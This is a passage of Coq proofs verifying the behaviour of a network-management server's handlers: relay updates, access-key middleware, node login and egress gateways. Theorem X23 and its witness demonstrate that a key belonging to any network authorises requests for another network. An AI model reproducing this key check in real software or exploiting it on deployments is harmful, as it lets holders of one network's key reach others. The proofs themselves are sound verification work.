  (forall w', (env _ IsClientMode w').1 = "on") ->
  (forall w', (env _ (GetNetworkServerLocal (Network_ node)) w').1 = (srv, None)) ->
  (forall w', (env _ (IsLeader srv) w').1 = leader) ->
  (forall w', (env _ (ServerUpdate srv ifaceDelta) w').1 = err) ->
  let o := run env (runServerUpdate node ifaceDelta) w in
  result o = Some err /\
  peer_updates (trace o) = (if ifaceDelta && leader then [srv] else []) /\
  reloads (trace o) = [(srv, ifaceDelta)].
Proof.
  intros Hs Hm Hl Hld Hu. unfold runServerUpdate. rewrite Hs.
  run_next. rewrite !Hm. cbn [String.eqb Ascii.eqb Bool.eqb negb orb].
  run_next. rewrite !Hl. tidy_goal. rewrite run_bind.
  destruct ifaceDelta; [run_next; rewrite !Hld; destruct leader |];
    tidy_goal; repeat (run_next; tidy_goal); rewrite !Hu;
    destruct err; tidy_goal; run_next; compute_traces; done.
Qed.

Lemma runServerUpdate_server_node_witness :
  let o := run (env_client_mode (node_named "local-server" "net1") false (Some "down"))
               (runServerUpdate server_node true) tt in
  result o = Some (Some "down") /\
  peer_updates (trace o) = [] /\
  reloads (trace o) = [(node_named "local-server" "net1", true)].
Proof.
  refine (runServerUpdate_server_node
            (env_client_mode (node_named "local-server" "net1") false (Some "down"))
            server_node (node_named "local-server" "net1") true false (Some "down") tt
            _ _ _ _ _); try (intros; reflexivity).
Defined.


(** ** Update *)

Lemma relay_addrs_range_differs (new : list string) :
  forall (pre old : list string) (b : bool),
    length new = length old ->
    relay_addrs_range (length pre) new (pre ++ old) b = true <->
    b = true \/ new <> old.
Proof.
  induction new as [| a rest IH]; intros pre old b Hlen.
  - destruct old; [| done]. cbn. split; [tauto | intros [? | ?]; done].
  - destruct old as [| o old]; [done |]. cbn [relay_addrs_range].
    replace (nth (length pre) (pre ++ o :: old) "") with o
      by (rewrite app_nth2, Nat.sub_diag by lia; reflexivity).
    replace (S (length pre)) with (length (pre ++ [o]))
      by (rewrite length_app; cbn; lia).
    replace (pre ++ o :: old) with ((pre ++ [o]) ++ old)
      by (by rewrite <- app_assoc).
    rewrite IH by (cbn in Hlen; lia).
    destruct (String.eqb_spec a o) as [-> | Hne]; cbn [negb].
    + split; (intros [? | ?]; [by left | right; congruence]).
    + split; [intros _; right; congruence | tauto].
Qed.

(** Lines 627-638: the flag is set exactly when the node is a relay and the
    patch brings a non-empty relay list that differs from the stored one. *)
Lemma relay_update_flag (node patch : Node) :
  (if String.eqb (IsRelay node) "yes" && (0 <? length (RelayAddrs patch))
   then if negb (length (RelayAddrs patch) =? length (RelayAddrs node))
        then true
        else relay_addrs_range 0 (RelayAddrs patch) (RelayAddrs node) false
   else false) = true <-> relay_list_changes node patch.
Proof.
  unfold relay_list_changes.
  destruct (String.eqb_spec (IsRelay node) "yes") as [Hr | Hr]; cbn [andb];
    [| split; [done | tauto]].
  destruct (RelayAddrs patch) as [| a rest] eqn:Hp; cbn [length Nat.ltb Nat.leb];
    [split; [done | tauto] |].
  rewrite <- Hp.
  assert (Hne0 : RelayAddrs patch <> []) by (by rewrite Hp).
  replace (S (length rest)) with (length (RelayAddrs patch)) by (by rewrite Hp).
  destruct (Nat.eqb_spec (length (RelayAddrs patch)) (length (RelayAddrs node)))
    as [He | Hne]; cbn [negb].
  - pose proof (relay_addrs_range_differs (RelayAddrs patch) []
                  (RelayAddrs node) false He) as Hd.
    cbn [length app] in Hd. rewrite Hd.
    split; [intros [? | ?]; done | intros (_ & _ & ?); by right].
  - split; [| done]. intros _. repeat split; [done | done |].
    intros E. by rewrite E in Hne.
Qed.

Lemma Silent_run {W A : Type} (env : Env W) (p : Prog A) :
  Silent p -> forall w, error_responses (trace (run env p w)) = [].
Proof.
  induction p as [a | msg | X c k IH]; intros Hs w; [done | done |].
  destruct Hs as [Hc Hk]. cbn [run].
  destruct (env X c w) as [x w']. cbn [trace].
  unfold error_responses in *. rewrite omap_cons_ev.
  rewrite (IH x (Hk x) w').
  destruct c; try done.
Qed.

Lemma Silent_bind {A B : Type} (p : Prog A) (f : A -> Prog B) :
  Silent p -> (forall a, Silent (f a)) -> Silent (p ≫= f).
Proof.
  intros Hp Hf. induction p as [a | msg | X c k IH]; [apply Hf | done |].
  destruct Hp as [Hc Hk]. split; [exact Hc |]. intros x. apply IH, Hk.
Qed.

Lemma Silent_for_each_runUpdates (l : list Node) (d : bool) :
  Silent (for_each l (fun n => runUpdates n d)).
Proof.
  induction l as [| n rest IH]; [done |]. cbn [for_each].
  apply Silent_bind; [done | intros _; exact IH].
Qed.

Lemma Silent_updateRelay (oldnode newnode : Node) :
  Silent (updateRelay oldnode newnode).
Proof.
  unfold updateRelay. apply Silent_bind; [done |]. intros found.
  destruct (found_relay found) as [m relay].
  destruct (updateRelay_mem relay relay oldnode newnode m) as [m' |]; [| done].
  destruct (deref m' relay); done.
Qed.

(** Run the next call on the answer a hypothesis gives for it. *)
Ltac answer H :=
  run_next; rewrite !H;
  repeat match goal with
  | |- context [(?env ?X ?c ?w).2] =>
      match type of env with
      | Env _ => generalize ((env X c w).2); intro
      end
  end;
  tidy_goal.

Ltac settle :=
  repeat (first [rewrite run_skip | rewrite run_ret]; tidy_goal).

Ltac split_answers :=
  repeat match goal with p : (_ * _)%type |- _ => destruct p end;
  tidy_goal.


Lemma for_each_runUpdates_run {W : Type} (env : Env W) (d : bool)
    (l : list Node) :
  forall w,
    let o := run env (for_each l (fun n => runUpdates n d)) w in
    result o = Some tt /\
    trace o = map (fun n => Ev (Go (TaskRunUpdates n d)) tt) l.
Proof.
  induction l as [| n rest IH]; intros w; [split; reflexivity |].
  cbn [for_each]. change (runUpdates n d) with (call (Go (TaskRunUpdates n d))).
  next. destruct (IH w0) as [Hres Htr]. cbn zeta in Hres, Htr.
  rewrite Hres, Htr. done.
Qed.

Lemma omap_started {A : Type} (f : Event -> option A) (g : Node -> Task)
    (l : list Node) :
  (forall n, f (Ev (Go (g n)) tt) = None) ->
  omap f (map (fun n => Ev (Go (g n)) tt) l) = [].
Proof.
  intros Hf. induction l as [| n rest IH]; [done |].
  cbn [map]. rewrite omap_cons_ev, Hf. exact IH.
Qed.

Lemma spawned_started (g : Node -> Task) (l : list Node) :
  spawned (map (fun n => Ev (Go (g n)) tt) l) = map g l.
Proof.
  induction l as [| n rest IH]; [done |].
  cbn [map]. unfold spawned in *. rewrite omap_cons_ev. cbn [on_Go].
  by rewrite IH.
Qed.



Lemma updateRelay_found {W : Type} (env : Env W) (oldnode newnode relay : Node)
    (spare : nat) (w : W) :
  (forall w', (env _ (FindRelay oldnode) w').1 = Some (relay, spare)) ->
  let o := run env (updateRelay oldnode newnode) w in
  let repaired :=
    set_RelayAddrs (repair_list oldnode newnode (RelayAddrs relay)) relay in
  result o = Some tt /\
  exists answer,
    trace o = [ Ev (FindRelay oldnode) (Some (relay, spare));
                Ev (UpdateNode repaired repaired) answer ].
Proof.
  intros Hf. unfold updateRelay. answer Hf.
  destruct (updateRelay_mem_refines oldnode newnode _ _ _ _
              (holds_found relay spare)) as (m' & Hu & Hm').
  cbn [found_relay] in *. cbn [fst] in Hu. rewrite Hu.
  rewrite (holds_deref _ _ _ _ Hm'). next. split; [done |]. by eexists.
Qed.

Lemma updateRelay_nil {W : Type} (env : Env W) (oldnode newnode : Node) (w : W) :
  (forall w', (env _ (FindRelay oldnode) w').1 = None) ->
  Address oldnode <> Address newnode \/ Address6 oldnode <> Address6 newnode ->
  let o := run env (updateRelay oldnode newnode) w in
  result o = None /\ trace o = [Ev (FindRelay oldnode) None].
Proof.
  intros Hf Hchg. unfold updateRelay. answer Hf.
  cbn [found_relay]. unfold updateRelay_mem.
  destruct (String.eqb_spec (Address oldnode) (Address newnode)) as [He | Hne];
    cbn [negb]; [| done].
  destruct (String.eqb_spec (Address6 oldnode) (Address6 newnode)) as [He6 | Hne6];
    cbn [negb]; [| done].
  destruct Hchg; done.
Qed.

Lemma relayed_update_flag (node patch : Node) :
  IsRelayed node = "yes" ->
  Address node <> Address patch \/ Address6 node <> Address6 patch ->
  String.eqb (IsRelayed node) "yes"
  && (negb (String.eqb (Address node) (Address patch))
      || negb (String.eqb (Address6 node) (Address6 patch))) = true.
Proof.
  intros -> Hchg. cbn [String.eqb Ascii.eqb Bool.eqb andb].
  destruct (String.eqb_spec (Address node) (Address patch)); [| done].
  destruct (String.eqb_spec (Address6 node) (Address6 patch)); [| done].
  destruct Hchg; done.
Qed.

(** X18.  When a relayed node changes its address, the handler repairs the
    list of its relay after the node has been persisted: the relay found
    for the persisted node is handed to persistence with the list
    [repair_list] computes from the two records as persistence left them,
    and the answer of that second update is not looked at. *)
Theorem updateNode_relayed_repairs_relay {W : Type} (env : Env W) (r : Request)
    (node patch node' new' relay : Node) (rce : bool) (spare : nat) (w : W) :
  (forall w', (env _ (GetNodeByID (Get (Vars r) "nodeid")) w').1 = (node, None)) ->
  (forall w', (env _ DecodeNode w').1 = (patch, None)) ->
  (forall w', (env _ GetRce w').1 = rce) ->
  (forall w', (env _ (UpdateNode node (sent_patch rce node patch)) w').1
              = (node', new', None)) ->
  (forall w', (env _ (FindRelay node') w').1 = Some (relay, spare)) ->
  IsRelay node <> "yes" ->
  IsRelayed node = "yes" ->
  Address node <> Address patch \/ Address6 node <> Address6 patch ->
  let o := run env (updateNode r) w in
  let repaired :=
    set_RelayAddrs (repair_list node' new' (RelayAddrs relay)) relay in
  result o = Some tt /\
  updated (trace o)
    = [(node, sent_patch rce node patch); (repaired, repaired)] /\
  relay_updates (trace o) = [] /\
  encoded (trace o) = [BodyNode new'].
Proof.
  intros Hn Hp Hrce Hu Hf Hnr Hrel Hchg.
  unfold updateNode, sent_patch in *. cbv zeta.
  next. answer Hn. answer Hp. answer Hrce. next. answer Hu.
  apply String.eqb_neq in Hnr. rewrite Hnr. cbn [andb].
  rewrite (relayed_update_flag node patch Hrel Hchg).
  rewrite run_bind. settle. rewrite run_bind.
  match goal with
  | |- context [run env (updateRelay node' new') ?u] =>
      destruct (updateRelay_found env node' new' relay spare u Hf)
        as (Hres & x & Htr);
      cbn zeta in Hres, Htr; rewrite Hres, !Htr;
      generalize (final (run env (updateRelay node' new') u)); intro
  end.
  tidy_goal. next. rewrite run_bind.
  match goal with b : bool |- _ => destruct b end; [next | settle];
    next; next; unfold runUpdates; next; compute_traces; done.
Qed.

Lemma updateNode_relayed_repairs_relay_witness :
  let node := relayed_node "10.0.0.5" "" in
  let patch := relayed_node "10.0.0.9" "" in
  let relay := relay_node ["10.0.0.4"; "10.0.0.5"] in
  let o := run (env_patch node patch (Some (relay, 0)) [])
               (updateNode (node_request "secretkey" "net1" "node-x")) tt in
  updated (trace o)
    = [(node, patch);
       (relay_node ["10.0.0.4"; "10.0.0.9"], relay_node ["10.0.0.4"; "10.0.0.9"])].
Proof.
  cbv zeta.
  pose proof (updateNode_relayed_repairs_relay
                (env_patch (relayed_node "10.0.0.5" "") (relayed_node "10.0.0.9" "")
                   (Some (relay_node ["10.0.0.4"; "10.0.0.5"], 0)) [])
                (node_request "secretkey" "net1" "node-x")
                (relayed_node "10.0.0.5" "") (relayed_node "10.0.0.9" "")
                (relayed_node "10.0.0.5" "") (relayed_node "10.0.0.9" "")
                (relay_node ["10.0.0.4"; "10.0.0.5"]) true 0 tt
                (fun _ => eq_refl) (fun _ => eq_refl) (fun _ => eq_refl)
                (fun _ => eq_refl) (fun _ => eq_refl)
                ltac:(discriminate) eq_refl
                ltac:(left; discriminate)) as (_ & Hupd & _).
  exact Hupd.
Defined.

(** X19.  When a relayed node changes its address and no relay is found for
    it, the handler panics in the repair: the node has been persisted, and
    no status line, no body and no error is written and no propagation is
    started. *)
Theorem updateNode_nil_relay_panics {W : Type} (env : Env W) (r : Request)
    (node patch node' new' : Node) (rce : bool) (w : W) :
  (forall w', (env _ (GetNodeByID (Get (Vars r) "nodeid")) w').1 = (node, None)) ->
  (forall w', (env _ DecodeNode w').1 = (patch, None)) ->
  (forall w', (env _ GetRce w').1 = rce) ->
  (forall w', (env _ (UpdateNode node (sent_patch rce node patch)) w').1
              = (node', new', None)) ->
  (forall w', (env _ (FindRelay node') w').1 = None) ->
  IsRelay node <> "yes" ->
  IsRelayed node = "yes" ->
  Address node <> Address patch \/ Address6 node <> Address6 patch ->
  Address node' <> Address new' \/ Address6 node' <> Address6 new' ->
  let o := run env (updateNode r) w in
  result o = None /\
  updated (trace o) = [(node, sent_patch rce node patch)] /\
  relay_lookups (trace o) = [node'] /\
  status_codes (trace o) = [] /\ encoded (trace o) = [] /\
  error_responses (trace o) = [] /\ spawned (trace o) = [].
Proof.
  intros Hn Hp Hrce Hu Hf Hnr Hrel Hchg Hchg'.
  unfold updateNode, sent_patch in *. cbv zeta.
  next. answer Hn. answer Hp. answer Hrce. next. answer Hu.
  apply String.eqb_neq in Hnr. rewrite Hnr. cbn [andb].
  rewrite (relayed_update_flag node patch Hrel Hchg).
  rewrite run_bind. settle. rewrite run_bind.
  match goal with
  | |- context [run env (updateRelay node' new') ?u] =>
      destruct (updateRelay_nil env node' new' u Hf Hchg') as (Hres & Htr);
      cbn zeta in Hres, Htr; rewrite Hres, !Htr
  end.
  tidy_goal. compute_traces. done.
Qed.

Lemma updateNode_nil_relay_panics_witness :
  let node := relayed_node "10.0.0.5" "" in
  let patch := relayed_node "10.0.0.9" "" in
  let o := run (env_patch node patch None [])
               (updateNode (node_request "secretkey" "net1" "node-x")) tt in
  result o = None /\
  updated (trace o) = [(node, patch)] /\
  relay_lookups (trace o) = [node] /\
  status_codes (trace o) = [] /\ encoded (trace o) = [] /\
  error_responses (trace o) = [] /\ spawned (trace o) = [].
Proof.
  refine (updateNode_nil_relay_panics
            (env_patch (relayed_node "10.0.0.5" "") (relayed_node "10.0.0.9" "")
               None [])
            (node_request "secretkey" "net1" "node-x")
            (relayed_node "10.0.0.5" "") (relayed_node "10.0.0.9" "")
            (relayed_node "10.0.0.5" "") (relayed_node "10.0.0.9" "")
            true tt
            (fun _ => eq_refl) (fun _ => eq_refl) (fun _ => eq_refl)
            (fun _ => eq_refl) (fun _ => eq_refl)
            _ eq_refl _ _); [discriminate | left; discriminate ..].
Defined.

(** * The further handlers *)

(** ** Runs *)

Lemma run2_bind {W A B} (env : Env2 W) (p : Prog2 A) (f : A -> Prog2 B) (w : W) :
  run2 env (p ≫= f) w =
  match result2 (run2 env p w) with
  | Some a =>
      let o := run2 env (f a) (final2 (run2 env p w)) in
      mkOutcome2 (result2 o) (final2 o) (trace2 (run2 env p w) ++ trace2 o)
  | None => mkOutcome2 None (final2 (run2 env p w)) (trace2 (run2 env p w))
  end.
Proof.
  revert w. induction p as [a | msg | X c k IH]; intros w.
  - simpl. unfold mbind, Prog2_bind. simpl. by destruct (run2 env (f a) w).
  - reflexivity.
  - unfold mbind, Prog2_bind in *. simpl.
    destruct (env X c w) as [x w']. rewrite IH.
    by destruct (result2 (run2 env (k x) w')).
Qed.

Lemma run2_call2 {W X} (env : Env2 W) (c : Call2 X) (w : W) :
  run2 env (call2 c) w =
  mkOutcome2 (Some (env X c w).1) (env X c w).2 [Ev2 c (env X c w).1].
Proof. simpl. by destruct (env X c w). Qed.

Lemma run2_base {W X} (env : Env2 W) (c : Call X) (w : W) :
  run2 env (base c) w =
  mkOutcome2 (Some (env X (Base c) w).1) (env X (Base c) w).2
             [Ev2 (Base c) (env X (Base c) w).1].
Proof. simpl. by destruct (env X (Base c) w). Qed.

Lemma run2_call2_bind {W X A} (env : Env2 W) (c : Call2 X) (f : X -> Prog2 A)
    (w : W) :
  run2 env (call2 c ≫= f) w =
  mkOutcome2 (result2 (run2 env (f (env X c w).1) (env X c w).2))
             (final2 (run2 env (f (env X c w).1) (env X c w).2))
             (Ev2 c (env X c w).1
              :: trace2 (run2 env (f (env X c w).1) (env X c w).2)).
Proof. unfold mbind, Prog2_bind. simpl. by destruct (env X c w). Qed.

Lemma run2_base_bind {W X A} (env : Env2 W) (c : Call X) (f : X -> Prog2 A)
    (w : W) :
  run2 env (base c ≫= f) w =
  mkOutcome2
    (result2 (run2 env (f (env X (Base c) w).1) (env X (Base c) w).2))
    (final2 (run2 env (f (env X (Base c) w).1) (env X (Base c) w).2))
    (Ev2 (Base c) (env X (Base c) w).1
     :: trace2 (run2 env (f (env X (Base c) w).1) (env X (Base c) w).2)).
Proof. unfold mbind, Prog2_bind. simpl. by destruct (env X (Base c) w). Qed.

Lemma run2_ret {W A} (env : Env2 W) (a : A) (w : W) :
  run2 env (Ret2 a) w = mkOutcome2 (Some a) w [].
Proof. reflexivity. Qed.

Lemma run2_ret_bind {W A B} (env : Env2 W) (a : A) (f : A -> Prog2 B) (w : W) :
  run2 env (Ret2 a ≫= f) w = run2 env (f a) w.
Proof. reflexivity. Qed.

Lemma run2_panic_bind {W A B} (env : Env2 W) (msg : string) (f : A -> Prog2 B)
    (w : W) :
  run2 env (Panic2 msg ≫= f) w = mkOutcome2 None w [].
Proof. reflexivity. Qed.

(** A lifted program runs as it does on the first kind of calls. *)
Lemma run2_lift {W A} (env : Env2 W) (p : Prog A) :
  forall w,
    run2 env (lift p) w =
    let o := run (base_env env) p w in
    mkOutcome2 (result o) (final o) (map lift_event (trace o)).
Proof.
  induction p as [a | msg | X c k IH]; intros w; [done | done |].
  cbn [lift run2 run].
  change (base_env env X c w) with (env X (Base c) w).
  destruct (env X (Base c) w) as [x w']. rewrite IH. reflexivity.
Qed.

Lemma base_events_lift (tr : list Event) : base_events (map lift_event tr) = tr.
Proof.
  induction tr as [| [X c x] tr IH]; [done |].
  cbn [map lift_event]. unfold base_events in *.
  cbn [omap list_omap base_event]. by rewrite IH.
Qed.

Ltac tidy2 :=
  cbn [fst snd result2 final2 trace2 result final trace is_nil nil_key negb
       andb orb].

Ltac run2_next :=
  first [ rewrite run2_call2_bind | rewrite run2_base_bind
        | rewrite run2_ret_bind | rewrite run2_panic_bind
        | rewrite run2_call2 | rewrite run2_base | rewrite run2_ret ].

Ltac next2 :=
  run2_next;
  try match goal with
  | |- context [?env ?X ?c ?w] =>
      match type of env with
      | Env2 _ => destruct (env X c w) as [? ?]
      end
  end;
  repeat match goal with u : unit |- _ => destruct u end;
  tidy2.

Ltac answer2 H :=
  run2_next; rewrite !H;
  repeat match goal with
  | |- context [(?env ?X ?c ?w).2] =>
      match type of env with
      | Env2 _ => generalize ((env X c w).2); intro
      end
  end;
  tidy2.

Ltac cases2 :=
  repeat first
    [ next2
    | match goal with
      | |- context [let '(_, _) := ?x in _] => is_var x; destruct x
      | |- context [is_nil ?e] => is_var e; destruct e
      | |- context [if ?b then _ else _] =>
          lazymatch type of b with
          | bool => destruct b
          end
      end; tidy2 ].

Ltac compute_traces2 :=
  cbv [base_events base_event written password_checks tokens marshalled
       network_listings egress_requests on_Write on_CompareHashAndPassword
       on_CreateJWT on_Marshal on_GetNetworks on_CreateEgressGateway
       lift_event map];
  compute_traces.

(** ** The access-key middleware *)

Lemma nodeauth_keys_spec (keys : list AccessKey) (tok : string) (found : bool) :
  nodeauth_keys keys tok found = true <->
  found = true \/ exists key, key ∈ keys /\ Value key = tok.
Proof.
  induction keys as [| key rest IH]; cbn [nodeauth_keys].
  - split; [tauto | intros [? | (key & Hk & _)]; [done | by inversion Hk]].
  - destruct (String.eqb_spec (Value key) tok) as [He | Hne].
    + split; [| done]. intros _. right. exists key. split; [left | done].
    + rewrite IH. split.
      * intros [? | (k & Hk & Hv)]; [by left |].
        right. exists k. split; [by right | done].
      * intros [? | (k & Hk & Hv)]; [by left |].
        apply elem_of_cons in Hk as [-> | Hk]; [done |].
        right. by exists k.
Qed.

Lemma nodeauth_networks_spec (networks : list Network) (tok : string) :
  forall found,
    nodeauth_networks networks tok found = true <->
    found = true \/ has_key networks tok.
Proof.
  unfold has_key.
  induction networks as [| network rest IH]; intros found;
    cbn [nodeauth_networks].
  - split; [tauto | intros [? | (n & k & Hn & _)]; [done | by inversion Hn]].
  - rewrite IH, nodeauth_keys_spec. split.
    + intros [[? | (k & Hk & Hv)] | (n & k & Hn & Hk & Hv)].
      * by left.
      * right. exists network, k. split; [left | done].
      * right. exists n, k. split; [by right | done].
    + intros [? | (n & k & Hn & Hk & Hv)]; [by left; left |].
      apply elem_of_cons in Hn as [-> | Hn].
      * left. right. by exists k.
      * right. by exists n, k.
Qed.

(** X23.  The access-key middleware hands the request on, unchanged,
    exactly when its token is the value of an access key of some network of
    the server: the network of the path plays no part.  Otherwise it writes
    the unauthorized error and does not run the handler. *)
Theorem nodeauth_any_network_key {W : Type} (env : Env2 W) (r : Request)
    (tok : string) (networks : list Network) (w : W) :
  carries r tok ->
  (forall w', (env _ GetNetworks w').1 = (networks, None)) ->
  let o := run2 env (nodeauth r) w in
  let tr := base_events (trace2 o) in
  result2 o = Some tt /\
  (has_key networks tok -> served tr = [r] /\ error_responses tr = []) /\
  (~ has_key networks tok ->
   served tr = [] /\ error_responses tr = [no_valid_key]).
Proof.
  intros Hc Hn. destruct (carries_split _ _ Hc) as [Hlen Hnth].
  unfold nodeauth. cbv zeta.
  assert (Hlt : (length (Split (Get (Header r) "Authorization")) <? 2) = false).
  { apply Nat.ltb_ge. apply Nat.ltb_lt in Hlen. lia. }
  rewrite Hlt, Hnth. answer2 Hn.
  pose proof (nodeauth_networks_spec networks tok false) as Hspec.
  destruct (nodeauth_networks networks tok false); cbn [negb]; next2;
    compute_traces2.
  - split; [done |]. split; [done |]. intros Hnot. exfalso. apply Hnot.
    destruct Hspec as [Hspec _]. by destruct (Hspec eq_refl).
  - split; [done |]. split; [| done]. intros Hk.
    destruct Hspec as [_ Hspec]. by specialize (Hspec (or_intror Hk)).
Qed.

Lemma nodeauth_any_network_key_witness :
  let r := mkRequest {[ "Authorization" := "Bearer key-of-net2" ]}
                     {[ "network" := "net1" ]} in
  let tr := base_events (trace2 (run2 env_two_networks (nodeauth r) tt)) in
  served tr = [r] /\ error_responses tr = [].
Proof.
  cbv zeta.
  pose proof (nodeauth_any_network_key env_two_networks
                (mkRequest {[ "Authorization" := "Bearer key-of-net2" ]}
                           {[ "network" := "net1" ]})
                "key-of-net2" two_networks tt eq_refl (fun _ => eq_refl))
    as (_ & Hyes & _).
  apply Hyes. exists (mkNetwork "net2" [mkAccessKey "key-of-net2"] "no" 0%Z),
    (mkAccessKey "key-of-net2").
  repeat split; [right; left | left].
Defined.

(** X24.  Whatever the request and the answers, the access-key middleware
    ends without a panic, and either hands the request on unchanged and
    writes no error, or writes exactly one error, of the unauthorized or the
    not-found class, and does not run the handler.  It asks for the networks
    at most once, and not at all for a request without a token. *)
Theorem nodeauth_outcomes {W : Type} (env : Env2 W) (r : Request) (w : W) :
  let o := run2 env (nodeauth r) w in
  let tr := base_events (trace2 o) in
  result2 o = Some tt /\
  ((served tr = [r] /\ error_responses tr = []) \/
   (exists e, served tr = [] /\ error_responses tr = [e] /\
              reports e Unauthorized || reports e NotFound = true)) /\
  length (network_listings (trace2 o)) <= 1 /\
  (no_token r -> network_listings (trace2 o) = []).
Proof.
  unfold nodeauth. cbv zeta.
  destruct (length (Split (Get (Header r) "Authorization")) <? 2) eqn:Hlt.
  - next2. compute_traces2. repeat split; [| cbn [length]; lia].
    right. eexists. done.
  - assert (Hno : ~ no_token r).
    { unfold no_token. intros Hn. apply lookup_ge_None in Hn.
      apply Nat.ltb_ge in Hlt. lia. }
    next2. destruct p as [networks err]. destruct err as [msg |]; tidy2.
    + next2. compute_traces2. repeat split; [| cbn [length]; lia | done].
      right. eexists. done.
    + destruct (nodeauth_networks _ _ _); cbn [negb]; next2; compute_traces2;
        (repeat split; [| cbn [length]; lia | done]).
      * by left.
      * right. eexists. done.
Qed.

(** ** Node login *)


(** X26.  A login whose body decodes with an empty ID or an empty password
    is refused with status 400 before anything else is asked: no node is
    looked up, no password is compared and no token is created. *)
Theorem authenticate_empty_credentials {W : Type} (env : Env2 W)
    (login : AuthParams) (w : W) :
  (forall w', (env _ DecodeAuthParams w').1 = (login, None)) ->
  AP_ID login = "" \/ AP_Password login = "" ->
  let o := run2 env authenticate w in
  error_responses (base_events (trace2 o))
    = [ErrorResponseLit StatusBadRequest
         (if String.eqb (AP_ID login) "" then "W1R3: ID can't be empty"
          else "W1R3: Password can't be empty")] /\
  node_lookups (base_events (trace2 o)) = [] /\
  password_checks (trace2 o) = [] /\ tokens (trace2 o) = [] /\
  written (trace2 o) = [].
Proof.
  intros Hd Hempty. unfold authenticate, badRequest. cbv zeta.
  answer2 Hd.
  destruct (String.eqb_spec (AP_ID login) "") as [He | Hne].
  - next2. compute_traces2. done.
  - destruct Hempty as [? | Hp]; [done |]. rewrite Hp.
    cbn [String.eqb]. next2. compute_traces2. done.
Qed.

Lemma authenticate_empty_credentials_witness :
  let o := run2 (env_login (mkAuthParams "node-1" "" "aa:bb")) authenticate tt in
  error_responses (base_events (trace2 o))
    = [ErrorResponseLit StatusBadRequest "W1R3: Password can't be empty"] /\
  node_lookups (base_events (trace2 o)) = [] /\
  password_checks (trace2 o) = [] /\ tokens (trace2 o) = [] /\
  written (trace2 o) = [].
Proof.
  refine (authenticate_empty_credentials
            (env_login (mkAuthParams "node-1" "" "aa:bb"))
            (mkAuthParams "node-1" "" "aa:bb") tt (fun _ => eq_refl) _).
  right. reflexivity.
Defined.

(** A wrong password is refused with the message of the comparison
    and status 400; no token is created and nothing is written. *)
Theorem authenticate_wrong_password {W : Type} (env : Env2 W)
    (login : AuthParams) (node : Node) (msg : string) (w : W) :
  (forall w', (env _ DecodeAuthParams w').1 = (login, None)) ->
  AP_ID login <> "" -> AP_Password login <> "" ->
  (forall w', (env _ (Base (GetNodeByID (AP_ID login))) w').1 = (node, None)) ->
  (forall w', (env _ (CompareHashAndPassword (Password node)
                        (AP_Password login)) w').1 = Some msg) ->
  let o := run2 env authenticate w in
  result2 o = Some tt /\
  error_responses (base_events (trace2 o))
    = [ErrorResponseLit StatusBadRequest msg] /\
  tokens (trace2 o) = [] /\ written (trace2 o) = [] /\
  status_codes (base_events (trace2 o)) = [].
Proof.
  intros Hd Hid Hpw Hn Hc. unfold authenticate, badRequest. cbv zeta.
  answer2 Hd.
  apply String.eqb_neq in Hid, Hpw. rewrite Hid, Hpw.
  answer2 Hn. answer2 Hc. cbn [Error]. next2. next2. compute_traces2. done.
Qed.

Lemma authenticate_wrong_password_witness :
  let o := run2 (env_login (mkAuthParams "node-1" "guess" "aa:bb"))
                authenticate tt in
  result2 o = Some tt /\
  error_responses (base_events (trace2 o))
    = [ErrorResponseLit StatusBadRequest
         "hashedPassword is not the hash of the given password"] /\
  tokens (trace2 o) = [] /\ written (trace2 o) = [] /\
  status_codes (base_events (trace2 o)) = [].
Proof.
  refine (authenticate_wrong_password
            (env_login (mkAuthParams "node-1" "guess" "aa:bb"))
            (mkAuthParams "node-1" "guess" "aa:bb")
            (mkNode "node-1" "alpha" "net1" "10.0.0.2" "" "hash-of-pw" ""
                    "no" "no" "no" "no" [] "" "" ""
                    (mkTrafficKeys None None) zeroNetwork [])
            "hashedPassword is not the hash of the given password" tt
            (fun _ => eq_refl) _ _ (fun _ => eq_refl) (fun _ => eq_refl));
    discriminate.
Defined.

(** ** Approval and gateways *)

Lemma run2_runUpdates {W : Type} (env : Env2 W) (node : Node) (flag : bool)
    (w : W) :
  exists w',
    run2 env (lift (runUpdates node flag)) w =
    mkOutcome2 (Some tt) w' [Ev2 (Base (Go (TaskRunUpdates node flag))) tt].
Proof.
  cbn [lift runUpdates call run2].
  destruct (env unit (Base (Go (TaskRunUpdates node flag))) w) as [[] w'].
  by exists w'.
Qed.

Ltac started :=
  match goal with
  | |- context [run2 ?env (lift (runUpdates ?node ?flag)) ?w] =>
      let w' := fresh "w" in
      let E := fresh "E" in
      destruct (run2_runUpdates env node flag w) as [w' E]; rewrite !E; tidy2
  end.



(** X28.  The egress gateway is asked for the node and the network of the
    path: the node ID and the network ID of the body are overwritten.  A
    body that does not decode is reported as an internal error and no
    gateway is asked for. *)
Theorem createEgressGateway_path_overrides_body {W : Type} (env : Env2 W)
    (r : Request) (gateway : EgressGatewayRequest) (err : error) (w : W) :
  (forall w', (env _ DecodeEgressGatewayRequest w').1 = (gateway, err)) ->
  let o := run2 env (createEgressGateway r) w in
  match err with
  | None =>
      egress_requests (trace2 o)
        = [mkEgressGatewayRequest (Get (Vars r) "nodeid")
             (Get (Vars r) "network") (EG_Other gateway)]
  | Some _ =>
      egress_requests (trace2 o) = [] /\
      error_responses (base_events (trace2 o)) = [formatError err "internal"]
  end.
Proof.
  intros Hd. unfold createEgressGateway, internalError. cbv zeta.
  next2. answer2 Hd. destruct err as [msg |]; tidy2.
  - next2. compute_traces2. done.
  - cases2; try started; compute_traces2; reflexivity.
Qed.

Lemma createEgressGateway_path_overrides_body_witness :
  let o := run2 env_egress
             (createEgressGateway (node_request "secretkey" "net1" "node-1")) tt in
  egress_requests (trace2 o)
    = [mkEgressGatewayRequest "node-1" "net1" [("ranges", "10.1.0.0/16")]].
Proof.
  exact (createEgressGateway_path_overrides_body env_egress
           (node_request "secretkey" "net1" "node-1")
           (mkEgressGatewayRequest "node-of-the-body" "net-of-the-body"
              [("ranges", "10.1.0.0/16")]) None tt (fun _ => eq_refl)).
Defined.

(** ** Routes: a middleware and its handler *)

Lemma run2_with_next_call {W X : Type} (env : Env2 W)
    (next : Request -> Prog2 unit) (c : Call X) (f : X -> Prog unit) (w : W) :
  match c with ServeNext _ => False | _ => True end ->
  run2 env (with_next next (lift (call c ≫= f))) w =
  mkOutcome2
    (result2 (run2 env (with_next next (lift (f (env X (Base c) w).1)))
                (env X (Base c) w).2))
    (final2 (run2 env (with_next next (lift (f (env X (Base c) w).1)))
               (env X (Base c) w).2))
    (Ev2 (Base c) (env X (Base c) w).1
     :: trace2 (run2 env (with_next next (lift (f (env X (Base c) w).1)))
